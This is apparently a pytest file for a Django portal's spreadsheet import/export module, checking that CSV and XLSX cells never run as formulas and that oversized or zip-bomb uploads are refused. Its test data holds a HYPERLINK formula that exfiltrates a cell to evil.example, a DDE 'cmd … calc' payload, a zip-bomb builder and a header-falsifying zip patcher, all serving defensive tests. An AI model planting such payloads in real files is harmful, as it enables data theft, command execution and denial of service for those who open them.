"""The one module for spreadsheets: formulas never run, what is written reads back the same, files stay within limits."""

import io
import tracemalloc
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal import tabular
from search.models import QueryLog

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tTab",
    "'=quoted",
    "'plain",
    "- gạch đầu dòng",
]


def test_csv_cells_that_would_run_as_formulas_are_written_as_text_and_read_back_unchanged():
    data = tabular.csv_bytes([["ô"], *([value] for value in HOSTILE)])
    assert data.startswith("\ufeff".encode())
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")"'
    assert all(line.startswith(("'", "\"'")) for line in lines[1:] if line)
    assert [row[0] for row in tabular.read_csv(io.BytesIO(data), "x.csv")[1:]] == [v.strip() for v in HOSTILE]


def test_a_hand_typed_leading_apostrophe_before_ordinary_text_is_kept():
    assert tabular.read_csv(io.BytesIO(b"a\n'abc\n"), "x.csv") == [["a"], ["'abc"]]


def test_xlsx_cells_are_text_never_formulas_and_read_back_unchanged():
    book = tabular.workbook()
    tabular.add_sheet(book, "s", ["ô"], [[value] for value in HOSTILE])
    stored = load_workbook(io.BytesIO(tabular.xlsx_bytes(book)))["s"]
    cells = [row[0] for row in stored.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    read = tabular.read_xlsx(io.BytesIO(tabular.xlsx_bytes(book)), "x.xlsx", ["s"])["s"]
    assert [row[0] for row in read[1:]] == [value.strip() for value in HOSTILE]


def bomb(member="thu_tuc.csv", size=50 * 1024 * 1024):
    """A small zip that unpacks to `size` bytes of CSV (one enormous field)."""
    buffer = io.BytesIO()
    archive = zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9)
    with archive, archive.open(member, "w", force_zip64=True) as stream:
        stream.write(b"ma,ten\n1,")
        chunk = b"A" * (1024 * 1024)
        for _ in range(size // len(chunk)):
            stream.write(chunk)
    return buffer.getvalue()


def test_a_small_zip_that_unpacks_to_50_mb_is_refused_without_unpacking_it():
    data = bomb()
    assert len(data) < 100 * 1024
    tracemalloc.start()
    with pytest.raises(tabular.TabularError, match=r"giải nén ra 52\.428\.809 byte, quá giới hạn 33\.554\.432 byte"):
        tabular.read_zip(io.BytesIO(data), "bom.zip", ["thu_tuc.csv"])
    _size, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 5 * 1024 * 1024


def lying(data, declared):
    """The same archive with every size field saying `declared` bytes."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.infolist()[0]
    real = info.file_size
    patched = bytearray(data)
    for offset in range(len(patched) - 3):
        if patched[offset : offset + 4] in (b"PK\x03\x04", b"PK\x01\x02"):
            size_at = offset + (22 if patched[offset + 2] == 3 else 24)
            if int.from_bytes(patched[size_at : size_at + 4], "little") == real:
                patched[size_at : size_at + 4] = declared.to_bytes(4, "little")
    return bytes(patched)


def test_a_zip_whose_headers_understate_the_size_is_refused_after_reading_no_more_than_they_say():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("thu_tuc.csv", "ma,ten\n" + "1,A\n" * 300_000)
    data = lying(buffer.getvalue(), 1000)
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].file_size == 1000
    with pytest.raises(tabular.TabularError, match="bị hỏng"):
        tabular.read_zip(io.BytesIO(data), "doi.zip", ["thu_tuc.csv"])


def test_streaming_stops_at_the_unpacked_limit_whatever_the_headers_say():
    data = b"a\n" + b"x\n" * 5000
    with pytest.raises(tabular.TabularError, match=r"vượt quá 1\.000 byte"):
        tabular.read_csv(io.BytesIO(data), "x.csv", tabular.Limits(unpacked_bytes=1000))


def test_rows_beyond_the_limit_are_refused_but_blank_rows_do_not_count():
    limits = tabular.Limits(rows=3)
    assert len(tabular.read_csv(io.BytesIO(b"a\n1\n2\n\n\n\n3\n"), "x.csv", limits)) == 7
    with pytest.raises(tabular.TabularError, match="quá 3 dòng dữ liệu"):
        tabular.read_csv(io.BytesIO(b"a\n1\n2\n3\n4\n"), "x.csv", limits)


def test_a_field_larger_than_a_cell_names_its_row_and_column():
    data = b"a,b\n1,2\n3," + b"B" * 40_000 + b"\n"
    with pytest.raises(tabular.TabularError, match=r"x\.csv, dòng 3, cột 2: ô dài 40.000 ký tự, quá giới hạn 32.767"):
        tabular.read_csv(io.BytesIO(data), "x.csv")
    with pytest.raises(tabular.TabularError, match=r"x\.csv, dòng 2: ô dài quá giới hạn"):
        tabular.read_csv(io.BytesIO(b"a\n" + b'"' + b"C" * 200_000 + b'"\n'), "x.csv")


def test_the_search_report_exports_csv_and_xlsx_through_the_same_rule(client, users):
    today = timezone.localdate()
    QueryLog.objects.create(day=today, scope="thu-tuc", query='=cmd|" /C calc"!A0', searches=3, zero_results=3)
    QueryLog.objects.create(day=today, scope="thu-tuc", query="khai sinh", searches=9, zero_results=0)
    client.force_login(users.editor)
    page = client.get(reverse("search_report"))
    assert page.status_code == 200 and "khai sinh" in page.content.decode()
    only_zero = client.get(reverse("search_report"), {"zero": "on"}).content.decode()
    assert "calc" in only_zero and "khai sinh" not in only_zero
    csv_text = b"".join(client.get(reverse("search_report"), {"export": "csv"}).streaming_content).decode("utf-8")
    assert csv_text.startswith("\ufeffTừ khóa,") and '\n"\'=cmd|"" /C calc""!A0",' in csv_text.replace("\r", "")
    xlsx = client.get(reverse("search_report"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    hostile = next(cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=cmd"))
    assert hostile.data_type == "s" and hostile.quotePrefix
